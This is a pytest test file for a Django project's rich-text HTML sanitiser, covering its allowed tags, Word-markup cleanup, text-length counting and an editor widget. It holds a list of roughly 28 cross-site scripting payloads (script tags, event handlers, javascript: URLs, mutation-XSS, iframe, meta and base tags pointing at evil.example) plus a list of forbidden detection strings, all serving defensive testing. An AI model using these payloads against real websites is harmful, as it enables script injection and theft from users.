"""The one sanitiser of rich text (`core.richtext`): both profiles, hostile payloads, Word
markup, and how the length of a text is counted."""

from __future__ import annotations

import pytest

from mofan.core.richtext import Profile, clean, text_length

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<img src="/portal/images/1/" onerror="alert(1)">',
    "<img src=javascript:alert(1)>",
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<img src="//evil.example/portal/images/1/">',
    '<img src="/portal/images/../../accounts/logout/">',
    '<p onclick="alert(1)">点我</p>',
    '<p style="background:url(javascript:alert(1))">样式</p>',
    '<a href="javascript:alert(1)">链接</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe src="/portal/"></iframe>',
    "<svg onload=alert(1)><circle r=1></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "<object data=javascript:alert(1)></object>",
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name=x></form>',
    '<body onload="alert(1)">',
    "<div><style>*{display:none}</style></div>",
    "<!--<script>alert(1)</script>-->",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "<p><svg><script>alert(1)</script></svg></p>",
    '"><script>alert(1)</script>',
    "<scr<script>ipt>alert(1)</script>",
    '<video><source onerror="alert(1)"></video>',
    '<details open ontoggle="alert(1)">',
]
FORBIDDEN = [
    "<script",
    "onerror",
    "onclick",
    "onload",
    "ontoggle",
    "javascript:",
    "<iframe",
    "<svg",
    "<object",
    "<embed",
    "<form",
    "<style",
    "<meta",
    "<base",
    "style=",
    "data:",
    "evil.example",
    "href=",
    "..",
]


@pytest.mark.parametrize("profile", ["text", "article"])
@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitiser_removes_every_payload(payload: str, profile: Profile) -> None:
    cleaned = clean(f"<p>前文</p>{payload}<p>后文</p>", profile=profile).lower()
    for bad in FORBIDDEN:
        assert bad not in cleaned, (payload, cleaned)
    assert "<p>前文</p>" in cleaned  # (a mutation payload may take what follows it along)


def test_article_keeps_what_the_article_needs() -> None:
    body = (
        "<h2>标题</h2><h3>一、背景</h3><p>正文<strong>加粗</strong></p><ul><li>要点</li></ul>"
        '<figure><img src="/portal/images/12/" alt="现场"><figcaption>现场</figcaption></figure>'
        "<blockquote><p>引文</p></blockquote>"
    )
    assert clean(body, profile="article") == body


def test_text_keeps_what_minutes_need() -> None:
    body = (
        "<h3>一、议程</h3><h4>（一）</h4><p>正文<strong>加粗</strong><b>粗</b><em>斜</em><i>斜</i>"
        "<u>下划线</u><br>换行</p><ol><li>一</li></ol><ul><li>要点</li></ul>"
        "<blockquote>引文</blockquote>"
        "<table><thead><tr><th>姓名</th></tr></thead><tbody><tr><td>张三</td></tr></tbody></table>"
    )
    assert clean(body) == body


def test_text_has_no_pictures_large_headings_or_figures() -> None:
    body = (
        '<h2>大标题</h2><figure><img src="/portal/images/12/" alt="现场">'
        "<figcaption>说明</figcaption></figure>"
    )
    assert clean(body, profile="text") == "大标题说明"


def test_neither_profile_keeps_links_styles_or_classes() -> None:
    body = '<p class="MsoNormal" style="color:red"><a href="/portal/">链接</a><span>字</span></p>'
    for profile in ("text", "article"):
        assert clean(body, profile=profile) == "<p>链接字</p>"  # type: ignore[arg-type]


def test_word_markup_is_reduced_to_paragraphs() -> None:
    word = (
        "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]-->"
        '<p class=MsoNormal><span style="font-family:宋体">第一段<o:p></o:p></span></p>'
        "<p class=MsoNormal><b><span lang=EN-US>加粗</span></b></p>"
    )
    assert clean(word) == "<p>第一段</p><p><b>加粗</b></p>"


def test_empty_and_white_space() -> None:
    assert clean(None) == ""
    assert clean("  <p>字</p>\n") == "<p>字</p>"


def test_unknown_profile_is_a_programming_error() -> None:
    with pytest.raises(ValueError, match="unknown rich-text profile"):
        clean("<p>字</p>", profile="email")  # type: ignore[arg-type]


def test_text_length_counts_characters_without_markup_or_white_space() -> None:
    assert text_length("<p><strong>党建</strong> 引领</p>\n<ul><li>a&amp;b</li></ul>") == 7
    assert text_length("<p> </p>") == 0
    assert text_length(None) == 0


def test_widget_is_a_textarea_the_script_upgrades() -> None:
    import json

    from django.utils import translation

    from mofan.core.widgets import RichTextarea

    with translation.override("zh-hans"):
        html = RichTextarea(profile="article", rows=5).render(
            "body", "<p>正文</p>", attrs={"id": "id_body"}
        )
    assert html.startswith("<textarea") and 'name="body"' in html and 'rows="5"' in html
    assert 'data-richtext="article"' in html
    assert "&lt;p&gt;正文&lt;/p&gt;</textarea>" in html  # the stored HTML, escaped
    raw = html.split('data-richtext-labels="', 1)[1].split('"', 1)[0]
    labels = json.loads(raw.replace("&quot;", '"'))
    assert labels["bold"] == "加粗" and labels["image"] == "插入图片"
    assert labels["clear"] == "清除格式"


def test_widget_refuses_an_unknown_profile() -> None:
    from mofan.core.widgets import RichTextarea

    with pytest.raises(ValueError, match="unknown rich-text profile"):
        RichTextarea(profile="email")
